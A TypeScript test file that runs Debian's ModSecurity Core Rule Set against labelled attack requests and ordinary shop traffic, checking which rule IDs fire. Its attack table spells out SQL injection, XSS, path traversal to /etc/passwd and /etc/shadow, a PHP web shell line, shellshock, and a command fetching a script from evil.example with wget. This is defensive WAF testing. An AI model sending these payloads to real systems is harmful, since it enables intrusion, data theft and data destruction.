/**
 * Debian's Core Rule Set 3.3 (`modsecurity-crs`) as a user has it: compiled as it lies there, and asked about attacks and
 * ordinary requests.
 */
import { expect, test } from 'vitest';
import { DEBIAN_CRS, loadCrs } from '../../bench/harness/modsecurity.ts';
import type { WafProgram } from '../../src/engine/waf/request/inspection.ts';
import { missingFile, requires } from '../support/requires.ts';
import { inspect, type Sent } from '../support/signatures.ts';

const OPTIONS = { ...requires(missingFile(DEBIAN_CRS, 'modsecurity-crs')), timeout: 120_000 };

let loaded: WafProgram | null = null;

function program(): WafProgram {
  loaded ??= loadCrs(DEBIAN_CRS);
  return loaded;
}

const BROWSER = {
  host: 'shop.example',
  'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0',
  accept: 'text/html,*/*;q=0.8',
};

function get(query: string): Sent {
  return { headers: BROWSER, target: `/search?q=${encodeURIComponent(query)}` };
}

function post(type: string, body: string): Sent {
  const length = String(Buffer.byteLength(body));
  const headers = { ...BROWSER, 'content-type': type, 'content-length': length };
  return { method: 'POST', target: '/submit', headers, body };
}

function form(fields: Readonly<Record<string, string>>): Sent {
  return post('application/x-www-form-urlencoded', new URLSearchParams(fields).toString());
}

function header(name: string, value: string): Sent {
  return { target: '/', headers: { ...BROWSER, [name]: value } };
}

function upload(name: string, content: string): Sent {
  const lines = [
    '--b0',
    `content-disposition: form-data; name="f"; filename="${name}"`,
    '',
    content,
    '--b0--',
    '',
  ];
  return post('multipart/form-data; boundary=b0', lines.join('\r\n'));
}

/** An attack, and a rule that has to see it. */
const ATTACKS: readonly (readonly [name: string, sent: Sent, id: number])[] = [
  ['a tautology', get("1' or '1'='1"), 942_100],
  ['union select', get("-1' union all select 1,username,password from users-- "), 942_100],
  ['a sleep', get("1' and sleep(5)-- "), 942_160],
  ['a system table', get('select table_name from information_schema.tables'), 942_140],
  ['a stacked query', form({ id: "1'; drop table users; --" }), 942_100],
  ['a script tag', get('<script>alert(document.cookie)</script>'), 941_110],
  ['an event handler', get('<img src=x onerror=alert(1)>'), 941_160],
  ['a javascript URL', get('<a href="javascript:alert(1)">x</a>'), 941_170],
  ['markup in a form', form({ comment: '<svg/onload=alert(1)>' }), 941_100],
  ['markup in JSON', post('application/json', '{"a":{"b":"<script>alert(1)</script>"}}'), 941_110],
  ['a path traversal', { target: '/view?file=../../../../etc/passwd', headers: BROWSER }, 930_100],
  ['an escaped traversal', { target: '/view?file=..%2f..%2f..%2fetc%2fshadow', headers: BROWSER }, 930_110],
  ['a system file', get('/etc/passwd'), 930_120],
  ['a file nobody serves', { target: '/.git/config', headers: BROWSER }, 930_130],
  ['a remote file by address', get('http://203.0.113.9/shell.txt'), 931_100],
  ['a remote include', get('http://evil.example/x.php?'), 931_120],
  ['a command', get('; cat /etc/passwd'), 932_160],
  ['a command behind a pipe', get('x | wget http://evil.example/a.sh'), 932_105],
  ['shellshock', header('user-agent', '() { :;}; /bin/bash -c id'), 932_170],
  ['a PowerShell command', get('x; powershell.exe -nop Get-Process'), 932_120],
  ['a PHP open tag', get('<?php system($_GET[0]); ?>'), 933_100],
  ['a PHP wrapper', get('php://filter/convert.base64-encode/resource=index.php'), 933_140],
  ['a PHP function', get("eval(base64_decode('aGk='))"), 933_160],
  ['a serialised PHP object', get('O:8:"stdClass":1:{s:1:"a";i:1;}'), 933_170],
  ['a PHP upload', upload('shell.php', 'x'), 933_110],
  ['a Node.js call', get('new Function("return process")'), 934_100],
  ['an upload whose name ends a parameter', upload('a;b.txt', 'x'), 920_120],
  ['a session fixation', get('<meta http-equiv="set-cookie">document.cookie="sid=1"'), 943_100],
  ['a Java gadget', get('java.lang.Runtime'), 944_100],
  ['an XML-borne process', post('application/json', '{"c":"java.lang.ProcessBuilder evil"}'), 944_110],
  ['a scanner', header('user-agent', 'sqlmap/1.7#stable (https://sqlmap.org)'), 913_100],
  ['a header split', { target: '/r?u=a%0d%0aset-cookie:%20x=1', headers: BROWSER }, 921_120],
  ['a smuggled request', form({ x: 'GET / HTTP/1.1\r\nhost: a' }), 921_110],
  ['a method nobody allows', { method: 'TRACE', target: '/', headers: BROWSER }, 911_100],
  ['a null octet', { target: '/?a=%00', headers: BROWSER }, 920_270],
  ['a content type nobody allows', post('text/x-evil', 'a=b'), 920_420],
];

test.each(ATTACKS)('%s is detected', OPTIONS, (_, sent, id) => {
  const finding = inspect(program(), sent);
  expect(finding.ids).toContain(id);
  expect(finding.score >= 5 || finding.denied).toBe(true);
});

test('comparisons of a value with itself are detected by a backreference', OPTIONS, () => {
  const ids = (query: string): readonly number[] => inspect(program(), get(query), { paranoia: 2 }).ids;
  for (const query of ['a or 1=1', "x' or 'ab' like 'AB'", 'a or 1<2', 'a or 5 is not 6']) {
    expect(ids(query), query).toContain(942_130);
  }
  for (const query of ['a or 1=2', 'a or 5 is not 5', 'size=xl'])
    expect(ids(query), query).not.toContain(942_130);
});

const ORDINARY: readonly (readonly [name: string, sent: Sent])[] = [
  ['a search', get('green chairs under 50')],
  ['a name with an apostrophe', get("Sinead O'Connor")],
  ['a question', get('what is the best union of flavours?')],
  ['prices', get('shoes size 42, 20% off')],
  ['an address', form({ street: '12 Harbour Road', city: 'Saint-Malo', zip: '35400' })],
  ['a comment', form({ comment: 'We loved it; the staff were lovely & the view is great.' })],
  ['a date and a time', form({ from: '2025-03-01T09:30', until: '2025-03-04' })],
  [
    'an order in JSON',
    post('application/json', '{"items":[{"sku":"A-1","count":2}],"note":"by noon please"}'),
  ],
  ['a photo', upload('holiday.jpg', 'not really a photo')],
  ['a photo whose name has an escaped letter', upload('Caf&eacute;.jpg', 'not really a photo')],
  ['a static file', { target: '/static/app.1f3c.js', headers: BROWSER }],
  ['cookies', header('cookie', '_ga=GA1.2.1234567890.1710000000; theme=dark')],
  ['a referer', header('referer', 'https://shop.example/list?page=2')],
];

test.each(ORDINARY)('%s is not detected', OPTIONS, (_, sent) => {
  expect(inspect(program(), sent).matches).toEqual([]);
});
